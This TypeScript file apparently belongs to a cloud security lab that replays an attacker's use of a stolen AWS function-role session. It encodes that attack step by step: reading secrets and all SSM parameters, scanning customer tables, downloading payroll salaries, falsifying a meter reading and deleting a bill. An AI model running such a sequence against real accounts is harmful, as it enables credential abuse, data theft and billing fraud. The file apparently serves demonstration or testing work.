import { DeleteItemCommand, DynamoDBClient, ListTablesCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
import { CreateAccessKeyCommand, IAMClient, ListUsersCommand } from '@aws-sdk/client-iam';
import { GetFunctionCommand, LambdaClient, ListFunctionsCommand } from '@aws-sdk/client-lambda';
import {
  GetObjectCommand,
  ListBucketsCommand,
  ListObjectsV2Command,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { GetSecretValueCommand, ListSecretsCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { GetParametersByPathCommand, SSMClient } from '@aws-sdk/client-ssm';
import type { Actor } from '../../server/kit.ts';
import { type Buckets, functionName, queueUrl, secret } from './billing.ts';

/** What the thief did with a session of the function's role, in this order: the log has it, and the attack does it again. */

export interface TheftStep {
  service: string;
  operation: string;
  input: Record<string, unknown>;
  /** The broad role of the time did not allow it. */
  refused?: true;
  send(thief: Actor): Promise<unknown>;
}

export function theft(buckets: Buckets, region: string, account: string): TheftStep[] {
  const payroll = { Bucket: buckets.payroll };
  const QueueUrl = queueUrl(region, account, 'bills-out');
  const steps: TheftStep[] = [];
  const step = <I extends Record<string, unknown>>(
    service: string,
    operation: string,
    input: I,
    send: (thief: Actor, input: I) => Promise<unknown>,
    refused?: true,
  ) =>
    steps.push({
      service,
      operation,
      input,
      ...(refused ? { refused } : {}),
      send: (thief) => send(thief, input),
    });
  step('s3', 'ListBuckets', {}, (thief, input) => thief.client(S3Client).send(new ListBucketsCommand(input)));
  step('iam', 'ListUsers', {}, (thief, input) => thief.client(IAMClient).send(new ListUsersCommand(input)), true);
  step(
    'iam',
    'CreateAccessKey',
    { UserName: 'scheduler' },
    (thief, input) => thief.client(IAMClient).send(new CreateAccessKeyCommand(input)),
    true,
  );
  step('secretsmanager', 'ListSecrets', {}, (thief, input) =>
    thief.client(SecretsManagerClient).send(new ListSecretsCommand(input)),
  );
  step('secretsmanager', 'GetSecretValue', { SecretId: secret }, (thief, input) =>
    thief.client(SecretsManagerClient).send(new GetSecretValueCommand(input)),
  );
  step('ssm', 'GetParametersByPath', { Path: '/', Recursive: true }, (thief, input) =>
    thief.client(SSMClient).send(new GetParametersByPathCommand(input)),
  );
  step('lambda', 'ListFunctions', {}, (thief, input) =>
    thief.client(LambdaClient).send(new ListFunctionsCommand(input)),
  );
  step('lambda', 'GetFunction', { FunctionName: functionName }, (thief, input) =>
    thief.client(LambdaClient).send(new GetFunctionCommand(input)),
  );
  step('dynamodb', 'ListTables', {}, (thief, input) => thief.client(DynamoDBClient).send(new ListTablesCommand(input)));
  for (const TableName of ['customers', 'bills'])
    step('dynamodb', 'Scan', { TableName }, (thief, input) =>
      thief.client(DynamoDBClient).send(new ScanCommand(input)),
    );
  step('s3', 'ListObjectsV2', payroll, (thief, input) => thief.client(S3Client).send(new ListObjectsV2Command(input)));
  step('s3', 'GetObject', { ...payroll, Key: '2026/salaries.csv' }, (thief, input) =>
    thief.client(S3Client).send(new GetObjectCommand(input)),
  );
  step('s3', 'PutObject', { Bucket: buckets.readings, Key: 'daily/2026-01-01/m-77.json' }, (thief, input) =>
    thief.client(S3Client).send(new PutObjectCommand({ ...input, Body: '{"meter":"m-77","units":0}' })),
  );
  step('sqs', 'ReceiveMessage', { QueueUrl }, (thief, input) =>
    thief.client(SQSClient).send(new ReceiveMessageCommand(input)),
  );
  step('dynamodb', 'DeleteItem', { TableName: 'bills', Key: { bill: { S: '2026-01-01/m-77' } } }, (thief, input) =>
    thief.client(DynamoDBClient).send(new DeleteItemCommand(input)),
  );
  return steps;
}
